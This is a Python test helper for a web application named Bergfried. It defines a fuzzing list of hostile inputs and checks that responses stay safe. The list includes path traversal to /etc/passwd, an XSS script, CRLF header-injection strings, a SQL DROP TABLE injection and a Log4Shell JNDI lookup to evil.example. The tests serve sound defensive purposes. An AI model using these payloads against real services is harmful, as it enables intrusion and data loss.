"""Hostile values and the promises every answer to them must keep.

- never a 5xx or a stack trace;
- no script of ours reflected unescaped into an HTML page;
- no header injected (every header value free of CR/LF; cookies only the ones Bergfried sets);
- a rejected request changes nothing: `snapshot()` counts every table's rows (and the failed
  password attempts) in one query, before and after.
"""

from __future__ import annotations

from typing import Any

import httpx
import sqlalchemy as sa
from hypothesis import strategies as st
from starlette.types import ASGIApp, Message, Scope

from bergfried.login import agent
from bergfried.services import Services
from bergfried.store import tables as t

SCRIPT = "<script>alert('bergfried')</script>"
LONE_SURROGATE = "\ud800".encode("utf-8", "surrogatepass").decode("latin-1")
HOSTILE_TEXT = [
    "", " ", "x" * 10_000, "\x00", "a\x00b", "%00", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    SCRIPT, f'"><{SCRIPT[1:]}', "javascript:alert(1)", "a\r\nSet-Cookie: injected=1",
    "a\r\nLocation: https://evil.example/", "%0d%0aSet-Cookie:%20injected=1", "https://evil.example/cb",
    "//evil.example", "\u202e\u0000\ufeff", LONE_SURROGATE, "ÿþ", "'; DROP TABLE users; --", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "9" * 40, "-1", "de-CH, en;q=0.1, <script>", "en\r\nX-Injected: 1",
]
TEXT = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=60))
RAW_BYTES = st.one_of(
    st.sampled_from([b"\xff\xfe", b"a=\xc3\x28", b"a=%ff%fe", b"\x00\x00", b"=" * 3000, b"a=1&a=2", b"%",
                     b"a=%E0%80%AF", b"\xed\xa0\x80=1", b"a" * 70_000]),
    st.binary(max_size=200),
)
OWN_COOKIES = {agent.NAME}


def _has_unescaped_script(text: str) -> bool:
    lowered = text.lower()
    return "<script>alert(" in lowered or "<script >alert(" in lowered


def assert_safe(response: httpx.Response) -> None:
    assert response.status_code < 500, (response.status_code, response.text[:300])
    assert "Traceback" not in response.text
    for name, value in response.headers.multi_items():
        assert "\r" not in value, (name, value)
        assert "\n" not in value, (name, value)
        assert "injected" not in name.lower()
    for cookie in response.headers.get_list("set-cookie"):
        assert cookie.split("=", 1)[0].strip() in OWN_COOKIES, cookie
    if "html" in response.headers.get("content-type", ""):
        assert not _has_unescaped_script(response.text), response.text[:2000]


async def snapshot(services: Services) -> dict[str, Any]:
    """Row counts of every table and the failed password attempts, in one round trip."""
    columns = [sa.select(sa.func.count()).select_from(table).scalar_subquery().label(table.name)
               for table in t.metadata.sorted_tables]
    columns.append(sa.select(sa.func.coalesce(sa.func.sum(t.users.c.failed_password_attempts), 0))
                   .scalar_subquery().label("failed_password_attempts"))
    async with services.store.read() as conn:
        row = (await conn.execute(sa.select(*columns))).one()
    return dict(row._mapping)


async def raw_get(app: ASGIApp, path: str, query: bytes, headers: list[tuple[bytes, bytes]] | None = None,
                  ) -> httpx.Response:
    """A GET whose query string is exactly `query`, bytes a client library would refuse to send
    (`\\xff`, CR/LF, NUL) included."""
    return await raw_request(app, "GET", path, query, headers)


async def raw_request(app: ASGIApp, method: str, path: str, query: bytes = b"",
                      headers: list[tuple[bytes, bytes]] | None = None, body: bytes = b"") -> httpx.Response:
    """Call the ASGI app with the scope a server would build from these exact bytes."""
    scope: Scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": query, "root_path": "",
        "headers": [(b"host", b"testserver"), *(headers or [])], "client": ("127.0.0.1", 40000),
        "server": ("testserver", 80),
    }
    started: dict[str, Any] = {}
    out = bytearray()

    async def receive() -> Message:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: Message) -> None:
        if message["type"] == "http.response.start":
            started.update(message)
        elif message["type"] == "http.response.body":
            out.extend(message.get("body", b""))

    await app(scope, receive, send)
    headers_out = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in started.get("headers", [])]
    return httpx.Response(started["status"], headers=headers_out, content=bytes(out))
